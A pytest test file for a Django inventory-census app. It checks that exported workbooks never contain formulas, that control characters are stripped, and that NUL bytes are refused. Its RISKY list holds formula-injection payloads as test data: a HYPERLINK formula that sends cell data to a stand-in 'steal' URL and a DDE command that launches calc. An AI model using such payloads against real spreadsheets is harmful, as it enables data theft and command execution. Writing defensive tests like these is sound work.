"""Text that cannot harm (issue 9 point 6, review findings 10 and 14): what a user types
or imports is data in every export — never a formula — control characters never break
a file, and a NUL is refused with a message wherever it comes in."""

from __future__ import annotations

import zipfile
from io import BytesIO
from urllib.parse import unquote

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from gpmb.census.choices import ItemKind
from gpmb.census.excel import SHEETS, InventoryImportError, headers_for, import_inventory
from gpmb.census.models import InventoryAttachment, InventoryItem
from gpmb.census.services import item_create

HX = {"HTTP_HX_REQUEST": "true"}
STEAL = '=HYPERLINK("http://127.0.0.1:9/steal?x="&A2,"Xem ảnh")'
RISKY = [STEAL, "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.fixture
def client_officer(client, world):
    client.force_login(world.officer)
    return client


def formulas(xlsx: bytes) -> list[str]:
    """Every <f> element in any sheet of the workbook."""
    with zipfile.ZipFile(BytesIO(xlsx)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


def test_the_inventory_export_writes_formula_like_names_as_text(client_officer, world):
    case = world.cases[0]
    for name in RISKY:
        item_create(
            actor=world.officer, case=case, kind=ItemKind.TREE, raw={"name": name, "quantity": "1"}
        )
    url = reverse("census:inventory_export", args=[world.project.code])
    response = client_officer.get(url)
    assert response.status_code == 200
    data = b"".join(response.streaming_content) if response.streaming else response.content
    assert formulas(data) == []
    sheet = load_workbook(BytesIO(data))[SHEETS[ItemKind.TREE]]
    names = {row[3].value: row[3] for row in sheet.iter_rows(min_row=2) if row[3].value}
    # Tab and CR are kept by the text rule; the cell is text, marked as such.
    for name in RISKY:
        cell = names[name.strip()] if name.strip() in names else names[name]
        assert cell.data_type == "s" and cell.quotePrefix, name


def test_control_characters_never_break_the_export_or_the_record(client_officer, world):
    case = world.cases[0]
    item = item_create(
        actor=world.officer, case=case, kind=ItemKind.TREE, raw={"name": "Nhãn", "quantity": "1"}
    )
    # Stored before the rule existed (the review planted them through the editor).
    InventoryItem.objects.filter(pk=item.pk).update(name="Nhãn\x0b\x1b lồng", note="a\x07b")
    export = client_officer.get(reverse("census:inventory_export", args=[world.project.code]))
    assert export.status_code == 200
    data = b"".join(export.streaming_content) if export.streaming else export.content
    sheet = load_workbook(BytesIO(data))[SHEETS[ItemKind.TREE]]
    assert "Nhãn lồng" in [row[3].value for row in sheet.iter_rows(min_row=2)]
    record = client_officer.get(reverse("documents:inventory_record", args=[case.pk, "docx"]))
    assert record.status_code == 200
    with zipfile.ZipFile(BytesIO(record.content)) as archive:
        assert "Nhãn lồng".encode() in archive.read("word/document.xml")


def test_the_inline_table_removes_control_characters_and_refuses_nul(client_officer, world):
    case = world.cases[0]
    url = reverse("census:item_add", args=[case.pk])
    response = client_officer.post(
        url, {"kind": "tree", "name": "Vải\x0b thiều\x1b", "quantity": "2"}, **HX
    )
    assert response.status_code == 200
    assert InventoryItem.objects.filter(case=case, name="Vải thiều").count() == 1

    before = InventoryItem.objects.count()
    # As htmx sends the row (urlencoded): refused before the view, gpmb.js shows why.
    response = client_officer.post(
        url,
        "kind=tree&name=V%E1%BA%A3i%00&quantity=2",
        content_type="application/x-www-form-urlencoded",
        **HX,
    )
    assert response.status_code == 400
    assert "NUL" in unquote(response["X-GPMB-Message"])
    # As a multipart form: the row's own check says so next to the name.
    response = client_officer.post(url, {"kind": "tree", "name": "Vải\x00", "quantity": "2"}, **HX)
    assert "ký tự NUL" in response.content.decode()
    assert InventoryItem.objects.count() == before


@pytest.mark.parametrize(
    "url",
    [
        "/households/?q=a%00b",
        "/households/?status=%00",
        "/projects/?project=x%00",
        "/policy/projects/tp/pricing/?q=%00",
        "/parcels/map/tp/search/?q=12%00",
    ],
)
def test_nul_in_a_filter_or_search_box_is_refused_with_a_message(client_officer, url):
    response = client_officer.get(url)
    assert response.status_code == 400
    assert "ký tự NUL" in response.content.decode()


def test_an_imported_workbook_with_nul_names_the_cell_and_writes_nothing(world, tmp_path):
    book = Workbook()
    sheet = book.active
    sheet.title = SHEETS[ItemKind.TREE]
    sheet.append(headers_for(ItemKind.TREE))
    # Excel writes characters XML cannot hold as _xHHHH_ escapes; the reader decodes them.
    sheet.append([world.households[0].code, "", 1, "Nhãn_x0000_", "cây", 3])
    sheet.append([world.households[0].code, "", 2, "Vải_x000B_", "cây", 3])
    path = tmp_path / "kiem-dem.xlsx"
    book.save(path)
    before = InventoryItem.objects.count()
    with pytest.raises(InventoryImportError) as refused:
        import_inventory(world.project, path, actor=world.officer)
    assert InventoryItem.objects.count() == before
    (error,) = refused.value.errors
    assert (error.sheet, error.row, error.column) == (SHEETS[ItemKind.TREE], 2, "D (Tên, mô tả)")
    assert "ký tự NUL" in error.message


def test_an_attachment_caption_with_nul_is_refused_on_the_row(client_officer, world):
    item = item_create(
        actor=world.officer,
        case=world.cases[0],
        kind=ItemKind.TREE,
        raw={"name": "Nhãn", "quantity": "1"},
    )
    url = reverse("census:item_attachments", args=[item.pk])
    photo = SimpleUploadedFile("a.pdf", b"%PDF-1.4\n", content_type="application/pdf")
    response = client_officer.post(url, {"file": photo, "caption": "Mặt\x00 tiền"}, **HX)
    assert response.status_code == 200
    assert "ký tự NUL" in response.content.decode()
    assert not InventoryAttachment.objects.filter(item=item).exists()
